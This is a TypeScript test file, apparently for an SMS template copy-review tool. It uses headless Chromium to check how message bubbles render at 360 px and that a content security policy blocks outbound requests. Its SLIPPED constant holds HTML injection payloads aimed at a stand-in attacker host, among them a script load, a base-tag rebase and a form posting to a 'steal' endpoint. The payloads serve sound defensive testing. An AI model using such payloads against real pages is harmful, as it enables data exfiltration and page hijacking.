// The HTML review in a real browser (Debian's chromium, headless, driven by playwright-core): each bubble's rendered
// text is the message JSMS sends, nothing is wider than a 360-pixel phone screen, and a screenshot is written; a
// hostile review makes no request, not even with raw markup slipped into the page (the content security policy).
import { expect } from "chai";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { chromium, type Browser, type Request } from "playwright-core";
import { renderHtml } from "../../copyreview/htmlRenderer";
import { planCopyReview } from "../../copyreview/reviewPlan";
import { hostileReview } from "./hostilePreview";
import { previewOf, templateStep } from "./previewSteps";

/** Debian's package; scripts/install-chromium.sh installs it (scripts/test.sh runs it in CI and as root). */
const CHROMIUM = "/usr/bin/chromium";
const ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
];

const LONG_LINK = `https://example.com/very/long/path/without/any/space/that/would/overflow/a/phone/screen/${"x".repeat(80)}`;

/** The templates drawn, and what JSMS sends for each (signature, copy, opt-out text; a line break as one break). */
const CASES = [
    {
        name: "otp",
        op: "replace",
        old: "您的验证码是{{code}}，10分钟内有效。",
        next: "您的验证码是{{code}}，5分钟内有效，请勿泄露。",
        type: 1,
    },
    { name: "tricky", op: "create", next: `a<b>|c\`d\`&amp; 🎉𠀀\r\n第二行\n第三行 ${LONG_LINK}`, type: 2 },
    {
        name: "sale",
        op: "update",
        old: "春季上新{{n}}件，全场八折。",
        next: `夏季上新{{n}}件，全场七折！详情见 ${LONG_LINK}`,
        type: 3,
    },
    { name: "gone", op: "delete", old: "旧模板，不再使用。", type: 2 },
] as const;

function sent(copy: string, type: number): string {
    return `【极光推送】${copy}${type === 3 ? "回T退订" : ""}`.replace(/\r\n|\r/g, "\n");
}

function chromiumRequired(): boolean {
    const required = (v: string | undefined) => v !== undefined && v !== "" && v !== "0" && v.toLowerCase() !== "false";
    return required(process.env.CI) || required(process.env.JSMS_REQUIRE_CHROMIUM);
}

describe("copy review: the HTML page in headless chromium at 360 px", function () {
    this.timeout(120_000);
    let browser: Browser;
    let folder: string;

    before(async function () {
        if (!fs.existsSync(CHROMIUM)) {
            const hint = `${CHROMIUM} is missing: run bash scripts/install-chromium.sh (as root)`;
            if (chromiumRequired()) {
                throw new Error(`CI or JSMS_REQUIRE_CHROMIUM is set but ${hint}`);
            }
            process.stderr.write(`skipping: ${hint}\n`);
            this.skip();
        }
        folder = fs.mkdtempSync(path.join(os.tmpdir(), "jsms-copy-review-browser-"));
        browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ARGS });
    });

    after(async () => {
        await browser?.close();
        if (folder) fs.rmSync(folder, { recursive: true, force: true });
    });

    it("draws each message as sent, fits 360 px, and writes a screenshot", async () => {
        const steps = CASES.map((c) =>
            templateStep(
                c.op,
                c.name,
                "old" in c
                    ? {
                          template: c.old,
                          type: c.type,
                          variableLengths: { code: 6, n: 3 },
                          status: c.op === "update" ? "rejected" : "approved",
                          rejectReason: c.op === "update" ? "折扣说明不清" : undefined,
                      }
                    : undefined,
                "next" in c ? { template: c.next, type: c.type, variableLengths: { code: 6, n: 3 } } : undefined,
            ),
        );
        const file = path.join(folder, "copy-review.html");
        fs.writeFileSync(file, renderHtml(planCopyReview(previewOf(steps), { pricePerSms: 0.045, currency: "CNY" })));

        const page = await browser.newPage({ viewport: { width: 360, height: 740 } });
        const requests: string[] = [];
        page.on("request", (r) => {
            if (!r.url().startsWith("file:")) requests.push(r.url());
        });
        await page.goto(`file://${file}`);

        // The callbacks run in the page; this project compiles without the DOM library, hence the narrow types.
        type Shown = {
            getAttribute(name: string): string | null;
            querySelector(selector: string): { innerText: string } | null;
        };
        const bubbles = await page.$$eval(".change", (changes) =>
            (changes as unknown as Shown[]).map((c) => ({
                name: c.getAttribute("data-name"),
                // biome-ignore lint/performance/useDomNodeTextContent: the text a phone shows is the rendered one
                old: c.querySelector(".bubble.old")?.innerText,
                // biome-ignore lint/performance/useDomNodeTextContent: the text a phone shows is the rendered one
                new: c.querySelector(".bubble.new")?.innerText,
            })),
        );
        const expected = CASES.map((c) => ({
            name: c.name,
            old: "old" in c ? sent(c.old, c.type) : undefined,
            new: "next" in c ? sent(c.next, c.type) : undefined,
        }));
        expect(bubbles).to.deep.equal(expected);

        const overflowing = await page.$$eval(".bubble, .change, .screen, table, body, html", (elements) =>
            elements
                .filter((e) => e.scrollWidth > e.clientWidth)
                .map((e) => `${e.tagName}.${e.className}: ${e.scrollWidth} > ${e.clientWidth}`),
        );
        expect(overflowing).to.deep.equal([]);
        const page360 = (await page.evaluate(
            "({ scroll: document.documentElement.scrollWidth, client: document.documentElement.clientWidth })",
        )) as {
            scroll: number;
            client: number;
        };
        expect(page360.scroll).to.be.at.most(page360.client).and.at.most(360);

        // The declared lengths are drawn (CSS), not part of the text.
        const mark = await page.evaluate(
            'getComputedStyle(document.querySelector(".bubble.new .var"), "::after").content',
        );
        expect(mark).to.equal('"≤6"');
        expect(requests, "the page loads nothing").to.deep.equal([]);

        const shot = process.env.JSMS_COPY_REVIEW_SCREENSHOT ?? path.join(folder, "copy-review.png");
        await page.screenshot({ path: shot, fullPage: true });
        const png = fs.readFileSync(shot);
        expect(png.subarray(1, 4).toString("latin1")).to.equal("PNG");
        expect(png.readUInt32BE(16), "screenshot width").to.equal(360);
    });

    /** Raw markup that would load, submit or rebase, as if a text had slipped past the escaping. */
    const SLIPPED = [
        '<base href="https://evil.example/">',
        '<img src="https://evil.example/i.png"><img src="relative.png">',
        '<link rel="stylesheet" href="https://evil.example/s.css">',
        '<div style="background:url(https://evil.example/bg.png)">bg</div>',
        '<form id="steal" action="https://evil.example/steal" method="post"><input name="q" value="v"></form>',
        '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>',
        '<script src="https://evil.example/s.js"></script>',
    ].join("");

    /**
     * Opens `html` from a file. `attempts` are the requests the page tried (chromium reports one the policy refused
     * as tried, then failed with "csp"); `sent` those that got past the policy to the network, which are refused.
     */
    async function open(html: string, name: string) {
        const file = path.join(folder, name);
        fs.writeFileSync(file, html);
        const page = await browser.newPage({ viewport: { width: 360, height: 740 } });
        const attempts: Request[] = [];
        const sent: string[] = [];
        page.on("request", (r) => {
            if (!r.url().startsWith("file:")) attempts.push(r);
        });
        await page.route("**/*", (route) => {
            if (route.request().url().startsWith("file:")) return route.continue();
            sent.push(route.request().url());
            return route.abort();
        });
        await page.goto(`file://${file}`);
        return { page, attempts, sent, url: `file://${file}` };
    }

    /** How each tried request ended: `csp` when the policy refused it. */
    async function endings(attempts: Request[]): Promise<string[]> {
        const ended = await Promise.all(
            attempts.map(async (r) => ((await r.response()) ? "answered" : (r.failure()?.errorText ?? "?"))),
        );
        return [...new Set(ended)];
    }

    it("a hostile review makes no request and draws its markup as text", async () => {
        const { page, attempts, sent } = await open(renderHtml(hostileReview()), "hostile.html");
        const elements = await page.$$eval("img, a, form, base, iframe, object, embed, script, link, input", (e) =>
            e.map((x) => x.tagName),
        );
        expect(elements).to.deep.equal([]);
        const text = (await page.evaluate("document.body.innerText")) as string;
        expect(text).to.contain("</details>").and.to.contain("![tracker](https://evil.example/t.png)");
        expect(text).to.contain("⟨U+202E⟩");
        expect(
            attempts.map((r) => r.url()),
            "the page tries nothing",
        ).to.deep.equal([]);
        expect(sent).to.deep.equal([]);
        await page.close();
    });

    it("raw markup slipped into the page still makes no request: no load, no form submission, no <base>", async () => {
        const html = renderHtml(hostileReview()).replace("<body>", `<body>${SLIPPED}`);
        const { page, attempts, sent, url } = await open(html, "slipped.html");
        // base-uri: the <base> is ignored, so relative URLs stay the file's.
        expect(await page.evaluate("document.baseURI")).to.equal(url);
        // form-action: a submitted form is a navigation, which the policy must refuse (it does not fall back to
        // default-src); either the refusal is reported or the request is seen, whichever comes first.
        await page.evaluate(
            'window.refused = []; document.addEventListener("securitypolicyviolation", (e) => window.refused.push(e.effectiveDirective))',
        );
        const refused = page
            .waitForFunction(
                // A function, not a string: the page's policy refuses eval, which a string predicate needs.
                () => ((globalThis as { refused?: string[] }).refused ?? []).includes("form-action"),
                undefined,
                { timeout: 30_000 },
            )
            .then(() => "refused");
        const requested = page
            .waitForRequest((r) => !r.url().startsWith("file:"), { timeout: 30_000 })
            .then((r) => `requested ${r.url()}`);
        refused.catch(() => undefined);
        requested.catch(() => undefined);
        await page.evaluate('document.getElementById("steal").submit()');
        const outcome = await Promise.race([refused, requested]);
        expect(outcome).to.equal("refused");
        expect(sent, "nothing reaches the network").to.deep.equal([]);
        expect(attempts.length, "the slipped markup did try").to.be.greaterThan(0);
        expect(await endings(attempts), "every try refused by the policy").to.deep.equal(["csp"]);
        await page.close();
    });
});
